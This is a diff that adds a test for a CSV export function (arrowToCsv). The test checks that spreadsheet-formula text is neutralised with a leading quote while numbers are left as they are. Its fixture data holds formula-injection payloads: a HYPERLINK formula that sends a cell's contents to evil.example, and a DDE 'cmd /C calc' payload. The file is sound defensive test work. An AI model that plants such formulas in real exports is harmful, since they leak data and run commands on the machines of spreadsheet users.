@@ -44,4 +44,40 @@ describe('arrowToCsv(table)', () => {
     ).text();
     expect(csv).toBe('missing,nan\r\n,NaN\r\n');
   });
+
+  it('starts text cells and column names a spreadsheet would run with a quote mark, and leaves numbers as numbers', async () => {
+    const text = {
+      link: `'=HYPERLINK("http://evil.example/?x="&A2,"Click")'`,
+      plus: `'+cmd|'' /C calc''!A0'`,
+      at: "'@SUM(1+1)'",
+      minus: "'-5'",
+      sign: "'+1'",
+      tab: "chr(9) || '=1+1'",
+      cr: "chr(13) || '=1+1'",
+    };
+    const numbers = {
+      integer: '-5',
+      double: '-1.5::DOUBLE',
+      decimal: '-123.45::DECIMAL(10,2)',
+      huge: '-170141183460469231731687303715884105727::HUGEINT',
+    };
+    const select = Object.entries({ ...text, ...numbers }).map(
+      ([name, sql]) => `${sql} AS ${name}`,
+    );
+    const sql = `SELECT ${select.join(', ')}, 1 AS "=1+1"`;
+    const csv = await (await arrowToCsv(db.queryArrow(sql))).text();
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    expect(parsed.errors).toEqual([]);
+    expect(parsed.meta.fields?.at(-1)).toBe("'=1+1");
+
+    const [exact] = db.query(
+      `SELECT ${Object.entries({ ...text, ...numbers })
+        .map(([name, sql]) => `(${sql})::VARCHAR AS ${name}`)
+        .join(', ')}`,
+    ) as Record<string, string>[];
+    const [row] = parsed.data;
+    for (const name of Object.keys(text)) expect(row[name], name).toBe(`'${exact[name]}`);
+    for (const name of Object.keys(numbers)) expect(row[name], name).toBe(exact[name]);
+    expect(row.huge).toBe('-170141183460469231731687303715884105727');
+  });
 });
